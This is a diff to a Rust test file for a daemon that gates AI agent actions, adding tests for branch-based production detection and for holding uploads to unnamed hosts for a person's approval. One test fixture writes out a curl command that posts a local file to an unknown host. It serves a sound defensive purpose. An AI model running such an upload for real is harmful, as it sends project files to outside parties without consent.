@@ -1,7 +1,8 @@
 //! Per-agent tool bundles through the broker, the path every daemon surface takes (REST, the
 //! proxy and the MCP gateway submit with their token's agent): an agent with a bundle is denied
-//! what it was not given; another agent is not affected. Production declared by the policy makes
-//! a change ask a person whoever submits it.
+//! what it was not given; another agent is not affected. Production declared by the policy, or
+//! read by the daemon from the branch checked out where the action runs, makes a change ask a
+//! person whoever submits it; an upload to a host the project does not name asks.
 
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
@@ -73,4 +74,100 @@ async fn production_alone_asks_a_person_through_the_broker() {
     assert!(a.confirm.person(), "{:?}", a.confirm);
     let read = b.submit(sub("claude", "s1", "ls -la")).await.unwrap();
     assert_eq!(read.decision, Decision::Allow);
+}
+
+/// A git checkout at `dir` on `branch`, whose files (an hour old and more) name `api.acme.example`.
+fn checkout(dir: &std::path::Path, branch: &str) {
+    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(7200);
+    for (path, text) in [
+        (".git/HEAD", format!("ref: refs/heads/{branch}\n")),
+        (".git/config", "[core]\n\tbare = false\n".to_string()),
+        (
+            "src/api.py",
+            "BASE = 'https://api.acme.example/v1'\n".to_string(),
+        ),
+    ] {
+        let p = dir.join(path);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, text).unwrap();
+        std::fs::File::options()
+            .write(true)
+            .open(&p)
+            .unwrap()
+            .set_modified(old)
+            .unwrap();
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_daemon_reads_the_branch_where_an_action_runs() {
+    let d = tempfile::tempdir().unwrap();
+    let b = broker_at(
+        d.path(),
+        None,
+        policy("[production]\ngit_branches = [\"release/*\"]\n"),
+        BrokerConfig::default(),
+    )
+    .await;
+    let repo = tempfile::tempdir().unwrap();
+    checkout(repo.path(), "release/2.1");
+    let at = |cmd: &str| Submission {
+        cwd: Some(repo.path().join("src").display().to_string()),
+        ..sub("claude", "s1", cmd)
+    };
+    let o = b.submit(at("touch notes.txt")).await.unwrap();
+    assert_eq!(o.decision, Decision::Ask, "{o:?}");
+    assert_eq!(o.reasons[0].code, ReasonCode::ProductionChange);
+    assert!(o.reasons[0].message.contains("release/2.1"), "{o:?}");
+    assert_eq!(
+        b.submit(at("ls -la")).await.unwrap().decision,
+        Decision::Allow
+    );
+    // the same change on another branch is no production change
+    checkout(repo.path(), "feature/x");
+    let o = b.submit(at("touch notes.txt")).await.unwrap();
+    assert!(
+        !o.reasons
+            .iter()
+            .any(|f| f.code == ReasonCode::ProductionChange),
+        "{o:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_daemon_asks_for_an_upload_to_a_host_the_project_does_not_name() {
+    let d = tempfile::tempdir().unwrap();
+    let b = broker_at(d.path(), None, policy(""), BrokerConfig::default()).await;
+    let repo = tempfile::tempdir().unwrap();
+    checkout(repo.path(), "main");
+    let at = |cmd: &str| Submission {
+        cwd: Some(repo.path().display().to_string()),
+        ..sub("claude", "s1", cmd)
+    };
+    let o = b
+        .submit(at(
+            "curl -X POST -d @notes.txt https://unknown.example/upload",
+        ))
+        .await
+        .unwrap();
+    assert_eq!(o.decision, Decision::Ask, "{o:?}");
+    assert!(
+        o.reasons
+            .iter()
+            .any(|f| f.code == ReasonCode::UnknownHost && f.message.contains("unknown.example")),
+        "{o:?}"
+    );
+    let a = b.approval(&o.approval.unwrap()).await.unwrap();
+    assert!(a.confirm.person(), "{:?}", a.confirm);
+    let named = b
+        .submit(at("curl -X POST -d x=1 https://api.acme.example/v1/items"))
+        .await
+        .unwrap();
+    assert!(
+        !named
+            .reasons
+            .iter()
+            .any(|f| f.code == ReasonCode::UnknownHost),
+        "{named:?}"
+    );
 }
